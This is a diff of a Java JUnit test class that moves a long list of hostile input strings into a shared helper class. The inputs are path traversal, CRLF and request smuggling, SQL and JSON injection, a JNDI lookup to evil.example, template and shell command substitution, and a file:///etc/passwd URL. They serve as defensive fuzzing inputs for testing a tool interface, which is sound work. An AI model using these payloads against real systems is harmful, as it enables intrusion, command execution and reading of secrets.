@@ -35,110 +35,6 @@ import org.junit.jupiter.params.provider.MethodSource;
 class BundledToolsSurfaceTest {
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
     private static final JsonMapper JSON = JsonMapper.builder().build();
-    private static final List<String> HOSTILE = List.of(
-            "",
-            ".",
-            "..",
-            "../..",
-            "../admin",
-            "..%2fadmin",
-            "%2e%2e",
-            "%2e",
-            "%00",
-            "%",
-            "/",
-            "//evil.example",
-            "\\",
-            "\\..\\",
-            "a/b",
-            "a?x=1",
-            "?x=1",
-            "#x",
-            "&x=1",
-            "a&amount=1",
-            "a=b",
-            "=",
-            ";x=1",
-            "a;b",
-            "+",
-            "a b",
-            " ",
-            "[x]",
-            "][",
-            "a]=1&b[",
-            "\r\n",
-            "a\r\nX-Evil: 1",
-            "a\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil.example\r\n\r\n",
-            "\n",
-            "\t",
-            "\u0000",
-            "a\u0000b",
-            "\u007f",
-            "\u0085",
-            "\u2028",
-            "\u2029",
-            "\u202eabc",
-            "\u200b",
-            "\ufeff",
-            "\uff0f",
-            "\u2215",
-            "\uff0e\uff0e",
-            "\u010a",
-            "\u560a",
-            "\ud83d\ude00",
-            "\udb40\udc41",
-            "e\u0301",
-            "ß",
-            "\"",
-            "'",
-            "'; drop table x; --",
-            "\"}",
-            "\",\"admin\":true,\"x\":\"",
-            "\"}){deleteAll{ok}}#",
-            "${jndi:ldap://evil.example}",
-            "{{7*7}}",
-            "$(id)",
-            "`id`",
-            "<script>",
-            "*",
-            "null",
-            "true",
-            "0",
-            "http://evil.example/",
-            "https://user@evil.example/",
-            "file:///etc/passwd",
-            "a@b.example\r\nBcc: c@d.example",
-            "=?utf-8?q?x?=",
-            "x".repeat(5_000));
-    /** For the places within a list or an object, of which there are many. */
-    private static final List<String> HOSTILE_WITHIN = List.of(
-            "",
-            "..",
-            "%2e",
-            "/",
-            "a&amount=1",
-            "a]=1&b[",
-            "][",
-            "a\r\nX-Evil: 1",
-            "\u0000",
-            "\u2028",
-            "\"}",
-            "\ud83d\ude00");
-
-    private static final List<JsonNode> OTHERS = List.of(
-            NODES.nullNode(),
-            NODES.booleanNode(true),
-            NODES.numberNode(-1),
-            NODES.numberNode(1.5),
-            NODES.numberNode(1e300),
-            NODES.arrayNode(),
-            NODES.objectNode(),
-            NODES.arrayNode().add("a").add("b&c=d"),
-            NODES.arrayNode().add(NODES.arrayNode().add("a")),
-            NODES.objectNode().put("a", "b"),
-            NODES.objectNode().put("a]&x[", "b"),
-            NODES.objectNode().set("gte", NODES.objectNode().put("x", 1)));
-
     private static RawRecorder upstream;
     private static TestClient client;
 
@@ -277,17 +173,18 @@ class BundledToolsSurfaceTest {
 
     /** Every hostile value, alone and in each place within the harmless one. */
     private static List<JsonNode> hostile(JsonNode harmless) {
-        var values = new ArrayList<JsonNode>(OTHERS);
-        HOSTILE.forEach(text -> values.add(NODES.textNode(text)));
+        var values = new ArrayList<>(Hostile.OTHERS);
+        Hostile.TEXTS.forEach(text -> values.add(NODES.textNode(text)));
         if (harmless.isContainerNode()) {
             for (int place = 0; place < harmless.size(); place++) {
-                for (var text : HOSTILE_WITHIN) {
+                for (var text : Hostile.TEXTS_WITHIN) {
                     values.add(with(harmless, place, NODES.textNode(text)));
                 }
             }
             if (harmless instanceof ObjectNode object) {
                 var any = object.elements().next();
-                HOSTILE_WITHIN.forEach(name -> values.add(object.deepCopy().set(name, any)));
+                Hostile.TEXTS_WITHIN.forEach(
+                        name -> values.add(object.deepCopy().set(name, any)));
             }
         }
         return values;
